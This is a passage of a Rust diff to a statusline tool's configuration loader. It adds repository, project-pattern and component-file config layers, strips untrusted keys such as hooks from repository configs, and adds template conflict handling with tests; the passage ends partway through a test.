@@ -11,10 +11,17 @@ use serde_json::Value;
 use std::fs;
 use std::path::{Path, PathBuf};
 use tokio::task;
-use toml_edit::{ser, value as toml_value, DocumentMut};
+use toml_edit::{ser, value as toml_value, Array, DocumentMut, Item};
 
+use super::backup::backup_config;
+use super::project_patterns::{matching_sections, PROJECT_PATTERNS_FILE};
 use super::schema::Config;
-use crate::storage::ProjectResolver;
+use super::upgrade::defaults_snapshot_path;
+use crate::components::{ComponentRegistry, BUILTIN_COMPONENTS};
+use crate::core::generator::separator_item;
+use crate::error::{StatuslineError, StatuslineResult};
+use crate::storage::ProjectId;
+use crate::themes::Theme;
 use crate::utils;
 
 /// Configuration source information
@@ -32,8 +39,33 @@ pub enum ConfigSourceType {
     User,
     Project,
     Custom,
+    /// `components/<name>.toml` next to a config file
+    Component,
+    /// Matching section of `projects.toml`
+    ProjectPattern,
+    /// `statusline.config.toml` / `.statusline.toml` committed to the repository
+    Repository,
 }
 
+/// File names of a config committed to the repository, by priority
+pub const REPO_CONFIG_FILES: [&str; 2] = ["statusline.config.toml", ".statusline.toml"];
+
+/// Keys ignored in a repository config.
+///
+/// 仓库配置随任意克隆下来的仓库进入,不能让它执行命令(`hooks`)、发起网络请求
+/// (后台 `git fetch`、价格表地址、关闭 `offline`、开启 `multiline` 去加载仓库里的
+/// API 小组件),也不能把自己加入信任目录;
+/// 这些键只在用户自己的配置里生效。`[compact]` 与 `[profiles.*]` 之后会整体合并
+/// 进配置,其中的同名键一并去掉。
+pub const REPO_UNTRUSTED_KEYS: [&str; 6] = [
+    "hooks",
+    "multiline",
+    "offline",
+    "pricing",
+    "security",
+    "components.branch.status.auto_fetch_minutes",
+];
+
 /// Summary of terminal capabilities used when generating default configs
 #[derive(Debug, Clone, Copy)]
 pub struct TerminalCapabilityHint {
@@ -43,10 +75,32 @@ pub struct TerminalCapabilityHint {
 }
 
 /// Options for copying component templates
-#[derive(Debug, Clone, Default)]
+#[derive(Debug, Clone, Copy, Default)]
 pub struct CopyComponentOptions {
+    /// 直接覆盖已存在的组件文件
     pub force: bool,
+    /// 已存在且内容不同的文件交给冲突回调决定
     pub interactive: bool,
+    /// 不写入任何文件,只收集与现有文件的差异
+    pub diff: bool,
+}
+
+/// How to handle a component template whose target file already exists
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ConflictAction {
+    Overwrite,
+    Skip,
+}
+
+/// A component template that differs from an existing component file
+#[derive(Debug, Clone)]
+pub struct ComponentConflict {
+    /// Component file name, e.g. `branch.toml`
+    pub name: String,
+    pub template_path: PathBuf,
+    pub target_path: PathBuf,
+    /// Unified diff from the existing file to the template
+    pub diff: String,
 }
 
 /// Options for generating a default configuration file
@@ -55,6 +109,10 @@ pub struct CreateConfigOptions<'a> {
     pub target_path: Option<&'a Path>,
     pub theme: Option<&'a str>,
     pub capabilities: Option<TerminalCapabilityHint>,
+    /// 预设字符串(如 `PMBT`),同时决定 `components.order` 和各组件的 `enabled`
+    pub preset: Option<&'a str>,
+    /// 显式的组件顺序,优先于 `preset`
+    pub components: Option<&'a [String]>,
     pub copy_components: bool,
     pub force: bool,
 }
@@ -71,6 +129,12 @@ pub struct CreateConfigResult {
 pub struct ComponentCopyStats {
     pub copied: usize,
     pub skipped: usize,
+    /// Files identical to their template
+    pub unchanged: usize,
+    /// Files that would be created (diff mode only)
+    pub created: Vec<String>,
+    /// Existing files that differ from their template (diff mode only)
+    pub conflicts: Vec<ComponentConflict>,
 }
 
 /// Detailed information about how a configuration layer modified the final config.
@@ -118,16 +182,24 @@ impl ConfigLoader {
     ///
     /// Returns an error if configuration files cannot be read or parsed, or
     /// if a custom configuration path is provided but does not exist on disk.
-    pub async fn load(&mut self, custom_path: Option<&str>) -> Result<Config> {
+    pub async fn load(&mut self, custom_path: Option<&str>) -> StatuslineResult<Config> {
+        self.load_impl(custom_path)
+            .await
+            .map_err(StatuslineError::Config)
+    }
+
+    async fn load_impl(&mut self, custom_path: Option<&str>) -> Result<Config> {
         if let Some(cached) = self.try_reuse_cached_config(custom_path) {
             return Ok(cached);
         }
 
         let custom_path_owned = custom_path.map(str::to_owned);
-        let (config, source, report) =
-            task::spawn_blocking(move || Self::load_config_layers(custom_path_owned.as_deref()))
-                .await
-                .map_err(|err| anyhow!("Blocking configuration load failed: {err}"))??;
+        let (config, source, report) = task::spawn_blocking(move || {
+            let cwd = std::env::current_dir().ok();
+            Self::load_config_layers(custom_path_owned.as_deref(), cwd.as_deref())
+        })
+        .await
+        .map_err(|err| anyhow!("Blocking configuration load failed: {err}"))??;
 
         self.cached_config = Some(config.clone());
         self.config_source = Some(source);
@@ -153,8 +225,11 @@ impl ConfigLoader {
         }
     }
 
+    /// Merge every configuration layer; the repository config is searched
+    /// upwards from `cwd`.
     fn load_config_layers(
         custom_path: Option<&str>,
+        cwd: Option<&Path>,
     ) -> Result<(Config, ConfigSource, MergeReport)> {
         let mut merged_value = serde_json::to_value(Config::default())
             .context("Failed to serialize default config")?;
@@ -176,6 +251,7 @@ impl ConfigLoader {
                     added_keys: added,
                     updated_keys: updated,
                 });
+                Self::merge_component_files(&mut merged_value, &user_config_path, &mut layers)?;
                 source = ConfigSource {
                     path: Some(user_config_path),
                     source_type: ConfigSourceType::User,
@@ -183,6 +259,18 @@ impl ConfigLoader {
             }
         }
 
+        Self::merge_project_patterns(&mut merged_value, &mut layers)?;
+
+        if let Some(repo_config_path) =
+            cwd.and_then(|cwd| find_repo_config(cwd, utils::home_dir().as_deref()))
+        {
+            Self::merge_repo_config(&mut merged_value, &repo_config_path, &mut layers)?;
+            source = ConfigSource {
+                path: Some(repo_config_path),
+                source_type: ConfigSourceType::Repository,
+            };
+        }
+
         if let Ok(project_config_path) = Self::get_project_config_path() {
             if project_config_path.exists() {
                 let project_value = Self::load_toml_value(&project_config_path)?;
@@ -195,6 +283,7 @@ impl ConfigLoader {
                     added_keys: added,
                     updated_keys: updated,
                 });
+                Self::merge_component_files(&mut merged_value, &project_config_path, &mut layers)?;
                 source = ConfigSource {
                     path: Some(project_config_path),
                     source_type: ConfigSourceType::Project,
@@ -215,6 +304,7 @@ impl ConfigLoader {
                     added_keys: added,
                     updated_keys: updated,
                 });
+                Self::merge_component_files(&mut merged_value, &custom_path_buf, &mut layers)?;
                 source = ConfigSource {
                     path: Some(custom_path_buf),
                     source_type: ConfigSourceType::Custom,
@@ -230,18 +320,110 @@ impl ConfigLoader {
         Ok((config, source, MergeReport { layers }))
     }
 
+    /// Merge the sections of `projects.toml` whose glob matches the current
+    /// directory, one layer per section.
+    fn merge_project_patterns(
+        merged_value: &mut Value,
+        layers: &mut Vec<MergeLayer>,
+    ) -> Result<()> {
+        let Some(path) = Self::get_user_config_path()
+            .map(|user_path| user_path.with_file_name(PROJECT_PATTERNS_FILE))
+            .filter(|path| path.exists())
+        else {
+            return Ok(());
+        };
+        let Ok(cwd) = std::env::current_dir() else {
+            return Ok(());
+        };
+        let document = fs::read_to_string(&path)
+            .with_context(|| format!("Failed to read config file: {}", path.display()))?
+            .parse::<DocumentMut>()
+            .with_context(|| format!("Failed to parse TOML config: {}", path.display()))?;
+
+        let home = utils::home_dir();
+        for (_, mut section) in
+            matching_sections(&document, &cwd.to_string_lossy(), home.as_deref())
+        {
+            Self::normalize_value(&mut section);
+            let before = merged_value.clone();
+            Self::merge_value(merged_value, section);
+            let (added, updated) = collect_diffs(&before, merged_value);
+            layers.push(MergeLayer {
+                source_type: ConfigSourceType::ProjectPattern,
+                path: Some(path.clone()),
+                added_keys: added,
+                updated_keys: updated,
+            });
+        }
+        Ok(())
+    }
+
+    /// Merge the `components/<name>.toml` files next to `config_path`, one
+    /// layer per file.
+    ///
+    /// 组件文件里除 `meta` / `widgets`(多行 Widget 定义)以外的顶层键覆盖
+    /// `[components.<name>]`;文件名不是内置组件的文件只用于 Widget,这里跳过。
+    fn merge_component_files(
+        merged_value: &mut Value,
+        config_path: &Path,
+        layers: &mut Vec<MergeLayer>,
+    ) -> Result<()> {
+        let Some(dir) = config_path.parent().map(|parent| parent.join("components")) else {
+            return Ok(());
+        };
+        let Ok(entries) = fs::read_dir(&dir) else {
+            return Ok(());
+        };
+        let mut paths: Vec<PathBuf> = entries
+            .filter_map(|entry| entry.ok().map(|entry| entry.path()))
+            .filter(|path| path.extension().is_some_and(|ext| ext == "toml"))
+            .collect();
+        paths.sort();
+
+        for path in paths {
+            let Some(name) = path.file_stem().and_then(|stem| stem.to_str()) else {
+                continue;
+            };
+            if !merged_value["components"][name].is_object() {
+                continue;
+            }
+            let Value::Object(mut overrides) = Self::load_toml_value(&path)? else {
+                continue;
+            };
+            overrides.remove("meta");
+            overrides.remove("widgets");
+            if overrides.is_empty() {
+                continue;
+            }
+
+            let before = merged_value.clone();
+            Self::merge_value(
+                merged_value,
+                serde_json::json!({ "components": { name: overrides } }),
+            );
+            let (added, updated) = collect_diffs(&before, merged_value);
+            layers.push(MergeLayer {
+                source_type: ConfigSourceType::Component,
+                path: Some(path),
+                added_keys: added,
+                updated_keys: updated,
+            });
+        }
+        Ok(())
+    }
+
     /// Load configuration with project ID
     /// # Errors
     ///
     /// Returns an error if the derived configuration file path cannot be
     /// represented as UTF-8 or if underlying configuration loading fails.
-    pub async fn load_with_project_id(&mut self, project_id: &str) -> Result<Config> {
+    pub async fn load_with_project_id(&mut self, project_id: &str) -> StatuslineResult<Config> {
         // Try to load project-specific config first
         let project_config_path = Self::get_project_config_path_with_id(project_id);
         if project_config_path.exists() {
-            let path_str = project_config_path
-                .to_str()
-                .ok_or_else(|| anyhow!("Project config path is not valid UTF-8"))?;
+            let path_str = project_config_path.to_str().ok_or_else(|| {
+                StatuslineError::Config(anyhow!("Project config path is not valid UTF-8"))
+            })?;
             return self.load(Some(path_str)).await;
         }
 
@@ -249,11 +431,52 @@ impl ConfigLoader {
         self.load(None).await
     }
 
+    /// Merge the config committed to the repository, minus
+    /// [`REPO_UNTRUSTED_KEYS`].
+    fn merge_repo_config(
+        merged_value: &mut Value,
+        path: &Path,
+        layers: &mut Vec<MergeLayer>,
+    ) -> Result<()> {
+        let mut repo_value = Self::load_toml_value(path)?;
+        strip_untrusted_keys(&mut repo_value);
+        let before = merged_value.clone();
+        Self::merge_value(merged_value, repo_value);
+        let (added, updated) = collect_diffs(&before, merged_value);
+        layers.push(MergeLayer {
+            source_type: ConfigSourceType::Repository,
+            path: Some(path.to_path_buf()),
+            added_keys: added,
+            updated_keys: updated,
+        });
+        Ok(())
+    }
+
+    /// Load a single configuration file layered only on top of the defaults.
+    ///
+    /// User and project configs are ignored, so the result does not depend on
+    /// the machine it runs on (used by render fixtures).
+    /// # Errors
+    ///
+    /// Returns an error if the file cannot be read, parsed, or does not form a
+    /// valid configuration.
+    pub fn load_standalone(path: &Path) -> StatuslineResult<Config> {
+        let load = || -> Result<Config> {
+            let mut merged_value = serde_json::to_value(Config::default())
+                .context("Failed to serialize default config")?;
+            Self::merge_value(&mut merged_value, Self::load_toml_value(path)?);
+            serde_json::from_value(merged_value)
+                .with_context(|| format!("Failed to build configuration from {}", path.display()))
+        };
+        load().map_err(StatuslineError::Config)
+    }
+
     /// Create default configuration file using the provided options
     /// # Errors
     ///
-    /// Returns an error when the target directory cannot be created or when
-    /// writing the generated configuration to disk fails.
+    /// Returns an error when the target directory cannot be created, when the
+    /// requested components are unknown, or when writing the generated
+    /// configuration to disk fails.
     pub fn create_default_config(options: CreateConfigOptions<'_>) -> Result<CreateConfigResult> {
         let target_path = if let Some(path) = options.target_path {
             path.to_path_buf()
@@ -268,19 +491,8 @@ impl ConfigLoader {
                 .with_context(|| format!("Failed to create directory: {}", parent.display()))?;
         }
 
-        let template_path = Self::get_template_path();
-        let mut document = if template_path.exists() {
-            fs::read_to_string(&template_path).map_or_else(
-                |_| default_config_document(),
-                |content| {
-                    content
-                        .parse::<DocumentMut>()
-                        .unwrap_or_else(|_| default_config_document())
-                },
-            )
-        } else {
-            default_config_document()
-        };
+        let template = Self::template_document();
+        let mut document = template.clone();
 
         if let Some(theme) = options.theme {
             document["theme"] = toml_value(theme);
@@ -292,8 +504,20 @@ impl ConfigLoader {
             document["style"]["enable_nerd_font"] = toml_value(cap.nerd_font);
         }
 
+        apply_component_selection(&mut document, options.preset, options.components)?;
+        apply_theme_defaults(&mut document);
+
+        backup_config(&target_path)?;
         fs::write(&target_path, document.to_string())
             .with_context(|| format!("Failed to write config file: {}", target_path.display()))?;
+        // 未经定制的模板作为 `config upgrade` 三方合并的共同祖先
+        let snapshot_path = defaults_snapshot_path(&target_path);
+        fs::write(&snapshot_path, template.to_string()).with_context(|| {
+            format!(
+                "Failed to write defaults snapshot: {}",
+                snapshot_path.display()
+            )
+        })?;
 
         let copy_stats = if options.copy_components {
             if let Some(dir) = target_path.parent() {
@@ -349,6 +573,25 @@ impl ConfigLoader {
         self.merge_report.as_ref()
     }
 
+    /// Directory of the last user-controlled config layer.
+    ///
+    /// 多行小组件从这里的 `components/` 加载,所以仓库配置层永远不作为基准目录。
+    #[must_use]
+    pub fn config_base_dir(&self) -> Option<PathBuf> {
+        self.merge_report
+            .as_ref()?
+            .layers
+            .iter()
+            .rev()
+            .filter(|layer| {
+                matches!(
+                    layer.source_type,
+                    ConfigSourceType::User | ConfigSourceType::Project | ConfigSourceType::Custom
+                )
+            })
+            .find_map(|layer| layer.path.as_deref()?.parent().map(Path::to_path_buf))
+    }
+
     /// Clear cached configuration
     pub fn clear_cache(&mut self) {
         self.cached_config = None;
@@ -389,8 +632,7 @@ impl ConfigLoader {
     /// Compute the project config path for a specific project directory
     #[must_use]
     pub fn project_config_path_for_path(project_path: &str) -> PathBuf {
-        let project_id = ProjectResolver::hash_global_path(project_path);
-        Self::get_project_config_path_with_id(&project_id)
+        Self::get_project_config_path_with_id(ProjectId::from_path(project_path).as_str())
     }
 
     /// Copy component configuration templates into the provided directory
@@ -399,6 +641,29 @@ impl ConfigLoader {
     /// Returns an error when template directories cannot be read, component
     /// files cannot be copied, or supporting directories cannot be created.
     pub fn copy_component_configs(target_dir: &Path, force: bool) -> Result<ComponentCopyStats> {
+        let options = CopyComponentOptions {
+            force,
+            ..CopyComponentOptions::default()
+        };
+        Self::copy_component_configs_with(target_dir, options, |_| Ok(ConflictAction::Skip))
+    }
+
+    /// Copy component templates, resolving conflicts per `options`.
+    ///
+    /// 已存在且内容不同的文件:`force` 时覆盖;`diff` 时只记录差异;`interactive`
+    /// 时调用 `resolve` 决定覆盖或跳过;否则跳过。内容相同的文件不会被重写。
+    /// # Errors
+    ///
+    /// Returns an error when template directories cannot be read, component
+    /// files cannot be copied, or `resolve` fails.
+    pub fn copy_component_configs_with<F>(
+        target_dir: &Path,
+        options: CopyComponentOptions,
+        mut resolve: F,
+    ) -> Result<ComponentCopyStats>
+    where
+        F: FnMut(&ComponentConflict) -> Result<ConflictAction>,
+    {
         let Some(template_dir) = Self::find_component_template_dir() else {
             return Ok(ComponentCopyStats::default());
         };
@@ -408,16 +673,20 @@ impl ConfigLoader {
         }
 
         let target_components_dir = target_dir.join("components");
-        fs::create_dir_all(&target_components_dir).with_context(|| {
-            format!(
-                "Failed to create components directory: {}",
-                target_components_dir.display()
-            )
-        })?;
+        if !options.diff {
+            fs::create_dir_all(&target_components_dir).with_context(|| {
+                format!(
+                    "Failed to create components directory: {}",
+                    target_components_dir.display()
+                )
+            })?;
+        }
+
+        let mut entries = fs::read_dir(&template_dir)?.collect::<std::io::Result<Vec<_>>>()?;
+        entries.sort_by_key(fs::DirEntry::file_name);
 
         let mut stats = ComponentCopyStats::default();
-        for entry in fs::read_dir(&template_dir)? {
-            let entry = entry?;
+        for entry in entries {
             let path = entry.path();
             let file_name = match path.file_name().and_then(|n| n.to_str()) {
                 Some(name) => name.to_string(),
@@ -431,12 +700,40 @@ impl ConfigLoader {
             let target_name = file_name.replace(".template", "");
             let target_path = target_components_dir.join(&target_name);
 
-            if target_path.exists() && !force {
-                // Skip without prompting, just count as skipped
-                stats.skipped += 1;
+            if target_path.exists() {
+                let template = fs::read_to_string(&path).with_context(|| {
+                    format!("Failed to read component template: {}", path.display())
+                })?;
+                let existing = fs::read_to_string(&target_path).unwrap_or_default();
+                if existing == template {
+                    stats.unchanged += 1;
+                    continue;
+                }
+
+                let conflict = ComponentConflict {
+                    diff: unified_diff(&existing, &template, &target_name),
+                    name: target_name,
+                    template_path: path.clone(),
+                    target_path: target_path.clone(),
+                };
+                let action = if options.diff {
+                    stats.conflicts.push(conflict);
+                    continue;
+                } else if options.force {
+                    ConflictAction::Overwrite
+                } else if options.interactive {
+                    resolve(&conflict)?
+                } else {
+                    ConflictAction::Skip
+                };
+                if action == ConflictAction::Skip {
+                    stats.skipped += 1;
+                    continue;
+                }
+            } else if options.diff {
+                stats.created.push(target_name);
                 continue;
             }
-            // Force mode: overwrite the file
 
             fs::copy(&path, &target_path).with_context(|| {
                 format!(
@@ -521,7 +818,7 @@ impl ConfigLoader {
         }
     }
 
-    fn merge_value(base: &mut Value, overlay: Value) {
+    pub(crate) fn merge_value(base: &mut Value, overlay: Value) {
         match (base, overlay) {
             (Value::Object(base_table), Value::Object(overlay_table)) => {
                 for (key, overlay_value) in overlay_table {
@@ -544,12 +841,13 @@ impl ConfigLoader {
         let cwd_str = cwd
             .to_str()
             .ok_or_else(|| anyhow!("Current directory path is not valid UTF-8"))?;
-        let project_id = ProjectResolver::hash_global_path(cwd_str);
-        Ok(Self::get_project_config_path_with_id(&project_id))
+        Ok(Self::get_project_config_path_with_id(
+            ProjectId::from_path(cwd_str).as_str(),
+        ))
     }
 
     fn get_project_config_path_with_id(project_id: &str) -> PathBuf {
-        let home = utils::home_dir().unwrap_or_else(|| PathBuf::from("."));
+        let home = utils::home_dir_or_temp();
         home.join(".claude")
             .join("projects")
             .join(project_id)
@@ -565,6 +863,23 @@ impl ConfigLoader {
         })
     }
 
+    /// The config template, or the serialized defaults when the template is
+    /// missing or unreadable
+    pub(crate) fn template_document() -> DocumentMut {
+        let template_path = Self::get_template_path();
+        if !template_path.exists() {
+            return default_config_document();
+        }
+        fs::read_to_string(&template_path).map_or_else(
+            |_| default_config_document(),
+            |content| {
+                content
+                    .parse::<DocumentMut>()
+                    .unwrap_or_else(|_| default_config_document())
+            },
+        )
+    }
+
     fn get_template_path() -> PathBuf {
         // Try to find the template in the project directory
         let exe_path = std::env::current_exe().unwrap_or_else(|_| PathBuf::from("."));
@@ -635,6 +950,7 @@ impl ConfigLoader {
         // Update document with config values (preserving format and comments)
         update_document_from_config(&mut document, config)?;
 
+        backup_config(&path)?;
         fs::write(&path, document.to_string())?;
 
         Ok(path)
@@ -647,6 +963,128 @@ impl Default for ConfigLoader {
     }
 }
 
+/// Point `preset`, `components.order` and every component's `enabled` at the
+/// requested selection.
+///
+/// 模板里的 `components.order` 非空时会覆盖 `preset`,所以只改 `preset` 不够;
+/// 未选中的内置组件写 `enabled = false`,选中的写 `enabled = true`。
+fn apply_component_selection(
+    document: &mut DocumentMut,
+    preset: Option<&str>,
+    components: Option<&[String]>,
+) -> Result<()> {
+    let registry = ComponentRegistry::with_builtins();
+    let order = match (components, preset) {
+        (Some(components), _) => {
+            registry.check_order(components)?;
+            components.to_vec()
+        }
+        (None, Some(preset)) => registry.try_parse_preset(preset)?,
+        (None, None) => return Ok(()),
+    };
+
+    // 组件列表能完整用字母表示时同步写出 preset,否则去掉以免与 order 矛盾
+    let letters: Option<String> = order
+        .iter()
+        .filter(|item| separator_item(item).is_none())
+        .map(|name| {
+            registry
+                .letters()
+                .find(|(_, component)| component == name)
+                .map(|(letter, _)| letter)
+        })
+        .collect();
+    match preset.map(str::to_string).or(letters) {
+        Some(preset) => document["preset"] = toml_value(preset),
+        None => {
+            document.remove("preset");
+        }
+    }
+
+    document["components"]["order"] = toml_value(order.iter().collect::<Array>());
+    for name in BUILTIN_COMPONENTS {
+        let selected = order.iter().any(|item| item == name);
+        let section = &mut document["components"][name];
+        if selected || section.is_table() {
+            section["enabled"] = toml_value(selected);
+        }
+    }
+    Ok(())
+}
+
+/// Defaults that depend on the chosen theme.
+///
+/// Powerline / Capsule 段落自带内边距和背景色,进度条默认收窄到 10 格,
+/// 避免整行超出 `style.max_width`。
+fn apply_theme_defaults(document: &mut DocumentMut) {
+    let theme = document
+        .get("theme")
+        .and_then(Item::as_str)
+        .map_or(Theme::Classic, Theme::from_name);
+    if theme == Theme::Classic {
+        return;
+    }
+    let tokens = &mut document["components"]["tokens"];
+    if tokens.is_table() {
+        tokens["progress_width"] = toml_value(10);
+    }
+}
+
+/// Unified diff turning `existing` into `template`
+fn unified_diff(existing: &str, template: &str, name: &str) -> String {
+    similar::TextDiff::from_lines(existing, template)
+        .unified_diff()
+        .context_radius(2)
+        .header(&format!("components/{name}"), &format!("{name} (template)"))
+        .to_string()
+}
+
+/// Config committed to the repository that contains `start`.
+///
+/// 从 `start` 逐级向上查找 [`REPO_CONFIG_FILES`],到仓库根(含 `.git` 的目录)为止;
+/// 不在仓库中时不会越过主目录,避免把 `~/.statusline.toml` 当成仓库配置。
+fn find_repo_config(start: &Path, home: Option<&Path>) -> Option<PathBuf> {
+    for dir in start.ancestors() {
+        if home.is_some_and(|home| home == dir) {
+            return None;
+        }
+        if let Some(path) = REPO_CONFIG_FILES
+            .iter()
+            .map(|name| dir.join(name))
+            .find(|path| path.is_file())
+        {
+            return Some(path);
+        }
+        if dir.join(".git").exists() {
+            return None;
+        }
+    }
+    None
+}
+
+/// Remove [`REPO_UNTRUSTED_KEYS`] from a repository config value, including
+/// the `compact` and `profiles.<name>` override tables
+fn strip_untrusted_keys(value: &mut Value) {
+    for key in REPO_UNTRUSTED_KEYS {
+        let (parents, leaf) = key
+            .rsplit_once('.')
+            .map_or((None, key), |(parents, leaf)| (Some(parents), leaf));
+        let table = parents
+            .into_iter()
+            .flat_map(|parents| parents.split('.'))
+            .try_fold(&mut *value, |table, part| table.get_mut(part));
+        if let Some(Value::Object(table)) = table {
+            table.remove(leaf);
+        }
+    }
+    if let Some(compact) = value.get_mut("compact") {
+        strip_untrusted_keys(compact);
+    }
+    if let Some(Value::Object(profiles)) = value.get_mut("profiles") {
+        profiles.values_mut().for_each(strip_untrusted_keys);
+    }
+}
+
 fn default_config_document() -> DocumentMut {
     let default_toml = ser::to_string_pretty(&Config::default()).unwrap_or_else(|_| String::new());
     default_toml
@@ -744,6 +1182,18 @@ mod tests {
         Ok(())
     }
 
+    #[test]
+    fn test_load_standalone_only_layers_defaults() -> Result<()> {
+        let temp_dir = tempdir()?;
+        let path = temp_dir.path().join("fixture.toml");
+        fs::write(&path, "theme = \"powerline\"\n")?;
+
+        let config = ConfigLoader::load_standalone(&path)?;
+        assert_eq!(config.theme, "powerline");
+        assert_eq!(config.preset, Config::default().preset);
+        Ok(())
+    }
+
     #[tokio::test]
     async fn test_config_with_custom_file() -> Result<()> {
         let temp_dir = tempdir()?;
@@ -776,6 +1226,31 @@ mod tests {
         Ok(())
     }
 
+    #[tokio::test]
+    async fn test_invalid_component_table_is_not_fatal() -> Result<()> {
+        let temp_dir = tempdir()?;
+        let config_path = temp_dir.path().join("test_config.toml");
+        std::fs::write(
+            &config_path,
+            "theme = \"capsule\"\n[components.usage]\nprecision = \"four\"\n[components.weather]\ncity = \"Berlin\"\n",
+        )?;
+
+        let mut loader = ConfigLoader::new();
+        let config_path_str = config_path
+            .to_str()
+            .ok_or_else(|| anyhow::anyhow!("config path contains invalid UTF-8"))?;
+        let config = loader.load(Some(config_path_str)).await?;
+
+        assert_eq!(config.theme, "capsule");
+        let errors = config.components.section_errors();
+        assert_eq!(
+            errors.iter().map(|(name, _)| *name).collect::<Vec<_>>(),
+            ["usage"]
+        );
+        assert!(!config.components.tokens.is_loaded());
+        Ok(())
+    }
+
     #[tokio::test]
     async fn test_clear_cache() -> Result<()> {
         let mut loader = ConfigLoader::new();
@@ -789,4 +1264,309 @@ mod tests {
         assert!(loader.config_source.is_none());
         Ok(())
     }
+
+    #[test]
+    fn test_create_default_config_follows_preset() -> Result<()> {
+        let temp_dir = tempdir()?;
+        let path = temp_dir.path().join("config.toml");
+        ConfigLoader::create_default_config(CreateConfigOptions {
+            target_path: Some(path.as_path()),
+            theme: Some("powerline"),
+            preset: Some("PMBT"),
+            ..Default::default()
+        })?;
+
+        let config = ConfigLoader::load_standalone(&path)?;
+        assert_eq!(config.preset.as_deref(), Some("PMBT"));
+        assert_eq!(
+            config.components.order,
+            ["project", "model", "branch", "tokens"]
+        );
+        assert!(config.components.branch.base.enabled);
+        assert!(!config.components.usage.base.enabled);
+        assert!(!config.components.status.base.enabled);
+        assert_eq!(config.components.tokens.progress_width, 10);
+        Ok(())
+    }
+
+    #[test]
+    fn test_create_default_config_with_component_list() -> Result<()> {
+        let temp_dir = tempdir()?;
+        let path = temp_dir.path().join("config.toml");
+        let components = [
+            "model".to_string(),
+            "sep: ║ ".to_string(),
+            "trust".to_string(),
+        ];
+        ConfigLoader::create_default_config(CreateConfigOptions {
+            target_path: Some(path.as_path()),
+            components: Some(&components),
+            ..Default::default()
+        })?;
+
+        let config = ConfigLoader::load_standalone(&path)?;
+        assert_eq!(config.preset.as_deref(), Some("MD"));
+        assert_eq!(config.components.order, components);
+        assert!(config.components.trust.base.enabled);
+        assert!(!config.components.project.base.enabled);
+
+        let unknown = ["weather".to_string()];
+        let result = ConfigLoader::create_default_config(CreateConfigOptions {
+            target_path: Some(path.as_path()),
+            components: Some(&unknown),
+            ..Default::default()
+        });
+        assert!(result.is_err());
+        Ok(())
+    }
+
+    #[test]
+    fn test_copy_component_configs_resolves_conflicts() -> Result<()> {
+        let temp_dir = tempdir()?;
+        let components_dir = temp_dir.path().join("components");
+        fs::create_dir_all(&components_dir)?;
+        fs::write(components_dir.join("usage.toml"), "# edited\n")?;
+        fs::copy(
+            "configs/components/rate_limit.template.toml",
+            components_dir.join("rate_limit.toml"),
+        )?;
+
+        // diff 模式不写入任何文件
+        let options = CopyComponentOptions {
+            diff: true,
+            ..CopyComponentOptions::default()
+        };
+        let stats = ConfigLoader::copy_component_configs_with(temp_dir.path(), options, |_| {
+            Ok(ConflictAction::Overwrite)
+        })?;
+        assert_eq!(stats.unchanged, 1);
+        assert_eq!(stats.conflicts.len(), 1);
+        assert_eq!(stats.conflicts[0].name, "usage.toml");
+        assert!(stats.conflicts[0].diff.contains("-# edited"));
+        assert_eq!(
+            fs::read_to_string(components_dir.join("usage.toml"))?,
+            "# edited\n"
+        );
+
+        let options = CopyComponentOptions {
+            interactive: true,
+            ..CopyComponentOptions::default()
+        };
+        let mut asked = Vec::new();
+        let stats =
+            ConfigLoader::copy_component_configs_with(temp_dir.path(), options, |conflict| {
+                asked.push(conflict.name.clone());
+                Ok(ConflictAction::Overwrite)
+            })?;
+        assert_eq!(asked, ["usage.toml"]);
+        assert_eq!(stats.copied, 1);
+        assert_eq!(
+            fs::read_to_string(components_dir.join("usage.toml"))?,
+            fs::read_to_string("configs/components/usage.template.toml")?
+        );
+        Ok(())
+    }
+
+    #[tokio::test]
+    #[serial_test::serial]
+    async fn test_component_files_override_component_tables() -> Result<()> {
+        let temp_dir = tempdir()?;
+        env::set_var("HOME", temp_dir.path());
+        let config_path = temp_dir.path().join("custom.toml");
+        fs::write(&config_path, "[components.tokens]\nprogress_width = 20\n")?;
+        let components_dir = temp_dir.path().join("components");
+        fs::create_dir_all(&components_dir)?;
+        fs::write(
+            components_dir.join("tokens.toml"),
+            "progress_width = 8\n\n[meta]\ndescription = \"tokens\"\n",
+        )?;
+        // 只有 Widget 定义的文件不产生覆盖层
+        fs::write(
+            components_dir.join("usage.toml"),
+            "[widgets.balance]\ntype = \"static\"\ncontent = \"1\"\n",
+        )?;
+
+        let mut loader = ConfigLoader::new();
+        let config_path_str = config_path
+            .to_str()
+            .ok_or_else(|| anyhow!("non UTF-8 path"))?;
+        let config = loader.load(Some(config_path_str)).await?;
+        assert_eq!(config.components.tokens.progress_width, 8);
+
+        let report = loader
+            .merge_report()
+            .ok_or_else(|| anyhow!("missing report"))?;
+        let layer = report
+            .layers
+            .last()
+            .ok_or_else(|| anyhow!("missing component layer"))?;
+        assert_eq!(layer.source_type, ConfigSourceType::Component);
+        assert_eq!(
+            layer.path.as_deref(),
+            Some(components_dir.join("tokens.toml").as_path())
+        );
+        assert_eq!(layer.updated_keys, ["components.tokens.progress_width"]);
+        assert_eq!(report.layers.len(), 2);
+        Ok(())
+    }
+
+    #[test]
+    fn test_find_repo_config_stops_at_repository_root() -> Result<()> {
+        let temp_dir = tempdir()?;
+        let home = temp_dir.path();
+        let repo = home.join("work").join("repo");
+        let nested = repo.join("src").join("bin");
+        fs::create_dir_all(&nested)?;
+        fs::create_dir_all(repo.join(".git"))?;
+
+        assert_eq!(find_repo_config(&nested, Some(home)), None);
+
+        fs::write(
+            home.join("work").join(".statusline.toml"),
+            "theme = \"capsule\"\n",
+        )?;
+        // 仓库根以上的文件不属于这个仓库
+        assert_eq!(find_repo_config(&nested, Some(home)), None);
+
+        fs::write(repo.join(".statusline.toml"), "theme = \"powerline\"\n")?;
+        assert_eq!(
+            find_repo_config(&nested, Some(home)),
+            Some(repo.join(".statusline.toml"))
+        );
+        fs::write(repo.join("statusline.config.toml"), "theme = \"classic\"\n")?;
+        assert_eq!(
+            find_repo_config(&nested, Some(home)),
+            Some(repo.join("statusline.config.toml"))
+        );
+
+        // 不在仓库中时向上查找到主目录为止
+        let loose = home.join("work").join("scratch");
+        fs::create_dir_all(&loose)?;
+        assert_eq!(
+            find_repo_config(&loose, Some(home)),
+            Some(home.join("work").join(".statusline.toml"))
+        );
+        fs::write(home.join(".statusline.toml"), "theme = \"classic\"\n")?;
+        fs::remove_file(home.join("work").join(".statusline.toml"))?;
